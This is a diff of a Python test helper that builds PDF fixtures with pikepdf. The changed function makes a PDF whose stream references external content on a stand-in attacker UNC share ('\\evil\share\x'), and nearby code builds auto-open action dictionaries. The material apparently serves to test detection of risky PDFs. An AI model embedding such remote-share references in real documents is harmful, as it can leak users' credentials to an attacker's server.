@@ -88,11 +88,13 @@ def turning(to: pikepdf.Object) -> pikepdf.Object:
     return pikepdf.Dictionary(AA=pikepdf.Dictionary(O=to))
 
 
-def with_content_elsewhere() -> bytes:
-    """A PDF of which a stream says that its content is to be fetched."""
+def with_content_elsewhere(key: str = "/F") -> bytes:
+    """A PDF of which a stream says, under this key, that its content is to be fetched."""
+    there = pikepdf.String(r"\\evil\share\x")
+    said = there if key == "/F" else pikepdf.Dictionary(F=there, Page=0)
     document = pikepdf.Pdf.new()
     document.add_blank_page()
-    document.Root.More = document.make_stream(b"", F=r"\\evil\share\x")
+    document.Root.More = document.make_stream(b"", {key: said})
     out = BytesIO()
     document.save(out)
     return out.getvalue()
